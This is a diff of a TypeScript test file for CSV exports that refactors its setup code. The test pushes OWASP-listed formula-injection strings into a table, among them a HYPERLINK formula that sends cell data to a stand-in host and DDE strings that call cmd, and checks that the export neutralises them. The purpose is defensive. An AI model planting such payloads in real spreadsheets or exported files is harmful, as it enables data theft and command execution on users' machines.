@@ -1,15 +1,12 @@
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
 import { csvText, csvValue } from '../../src/query/formats/csv-result';
-import { namedQuery } from '../../src/store/named-query';
-import { createVerifiedUser, type TestUser } from '../support/accounts';
+import { createApiKey, type TestUser } from '../support/accounts';
 import { parseCsv } from '../support/csv';
 import { bodyOf } from '../support/http';
 import { submitJobOk, waitForJob } from '../support/jobs';
 import { pushOk } from '../support/lake';
-import { startTestApp, type TestApp } from '../support/test-app';
-import { createWorkspace } from '../support/workspaces';
-
-const usePlan = namedQuery<{ id: string }>('test.csv_injection_plan', "UPDATE workspaces SET plan_id = 'business' WHERE id = :id");
+import type { TestApp } from '../support/test-app';
+import { withWorkspace } from '../support/fixtures';
 
 /** Text a spreadsheet would run as a formula, each spelling OWASP lists (and one safe text). */
 const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', 'plain text'];
@@ -24,17 +21,12 @@ const sql = `SELECT ord, label, amount, ratio, -9007199254740993::BIGINT AS big,
  * ones included, stay numbers.
  */
 describe('CSV answers and formula injection', () => {
-  let t: TestApp;
-  let user: TestUser;
-  let workspaceId: string;
+  let t: TestApp, user: TestUser, workspaceId: string;
   let apiKey: string;
 
   beforeAll(async () => {
-    t = await startTestApp('local', { worker: true, env: { PUBLIC_VIEWS_PER_ADDRESS: '1000' } });
-    user = await createVerifiedUser(t, 'csv');
-    workspaceId = (await createWorkspace(t, user, 'csv')).id;
-    await t.infra.store.run(usePlan, { id: workspaceId });
-    apiKey = (await bodyOf(await t.request('/api/v1/auth/api-keys', { method: 'POST', json: { name: 'csv' }, token: user.accessToken }))).key;
+    ({ t, user, workspaceId } = await withWorkspace('local', { worker: true, env: { PUBLIC_VIEWS_PER_ADDRESS: '1000' }, label: 'csv', plan: 'business' }));
+    apiKey = await createApiKey(t, user, 'csv');
     await pushOk(t, workspaceId, user, { table: 'cells.t', records: hostile.map((label, ord) => ({ ord, label, amount: -5 - ord, ratio: -1.5 })) });
   });
   afterAll(() => t.stop());
